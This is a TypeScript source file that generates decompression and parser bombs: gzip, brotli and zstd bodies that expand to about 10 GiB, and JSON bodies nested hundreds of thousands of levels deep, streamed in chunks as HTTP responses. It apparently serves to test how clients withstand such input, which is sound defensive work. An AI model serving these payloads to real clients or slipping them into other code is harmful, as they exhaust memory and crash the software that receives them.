import { constants, createBrotliCompress, deflateRawSync } from 'node:zlib';

/** A small body that says it is a very large one: `pieces` times `piece`, between `head` and `tail`. */
export type BombBody = Readonly<{ head: Buffer; piece: Buffer; pieces: number; tail: Buffer }>;

const unpacked = 10 * 2 ** 30;
const mebibyte = 2 ** 20;
const none = Buffer.alloc(0);

/** RFC 1952. Its check sum is wrong: who reads as far has read 10 GiB. */
const gzip = (): BombBody => {
  const piece = deflateRawSync(Buffer.alloc(mebibyte), { finishFlush: constants.Z_FULL_FLUSH }); // stands alone
  const tail = Buffer.from([3, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  return { head: Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), piece, pieces: unpacked / mebibyte, tail };
};

/** RFC 7932. The first piece has the window's size before it; those after it are alike. */
const brotli = async (): Promise<BombBody> => {
  const size = 8 * mebibyte;
  const params = { [constants.BROTLI_PARAM_LGWIN]: 24, [constants.BROTLI_PARAM_QUALITY]: 5 };
  const encoder = createBrotliCompress({ params });
  const nextPiece = async (): Promise<Buffer> => {
    encoder.write(Buffer.alloc(size));
    await new Promise<void>((resolve) => encoder.flush(() => resolve()));
    const parts: Buffer[] = [];
    for (let part: unknown = encoder.read(); Buffer.isBuffer(part); part = encoder.read()) parts.push(part);
    return Buffer.concat(parts);
  };
  const head = Buffer.concat([await nextPiece(), await nextPiece()]);
  const piece = await nextPiece();
  encoder.destroy();
  return { head, piece, pieces: unpacked / size - 2, tail: Buffer.from([3]) };
};

/** RFC 8878: a block of four bytes repeats one byte as often as a block may. */
const zstd = (windowLog: number): BombBody => {
  const size = 128 * 1_024;
  const block = (isLast: boolean): Buffer => {
    const bits = (size << 3) | (1 << 1) | (isLast ? 1 : 0);
    return Buffer.from([bits & 255, (bits >> 8) & 255, bits >> 16, 0]);
  };
  const head = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0, (windowLog - 10) << 3]);
  return { head, piece: block(false), pieces: unpacked / size - 1, tail: block(true) };
};

const nested = (open: string, close: string): BombBody => {
  const pieces = Math.floor((mebibyte - 1) / (open.length + close.length));
  return { head: none, piece: Buffer.from(open), pieces, tail: Buffer.from(`1${close.repeat(pieces)}`) };
};

export type Bomb = Readonly<{ name: string; type: string; encoding?: string; body: BombBody }>;

export const makeBombs = async (): Promise<readonly Bomb[]> => [
  { name: 'gzip bomb', type: 'text/html', encoding: 'gzip', body: gzip() },
  { name: 'br bomb', type: 'text/html', encoding: 'br', body: await brotli() },
  { name: 'zstd bomb', type: 'text/html', encoding: 'zstd', body: zstd(23) }, // the widest window that RFC 9659 allows
  { name: 'zstd bomb, window of 128 MiB', type: 'text/html', encoding: 'zstd', body: zstd(27) },
  { name: 'JSON of 500,000 nested arrays', type: 'application/json', body: nested('[', ']') },
  { name: 'JSON of 170,000 nested objects', type: 'application/json', body: nested('{"a":', '}') },
];

/** Parts of at least 64 KiB, as long as anybody reads. */
export const parts = function* ({ head, piece, pieces, tail }: BombBody): Generator<Buffer> {
  yield head;
  const together = Math.max(1, Math.ceil(65_536 / piece.length));
  const many = Buffer.concat(Array.from({ length: Math.min(together, pieces) }, () => piece));
  for (let left = pieces; left > 0; left -= together) yield many.subarray(0, Math.min(together, left) * piece.length);
  yield tail;
};
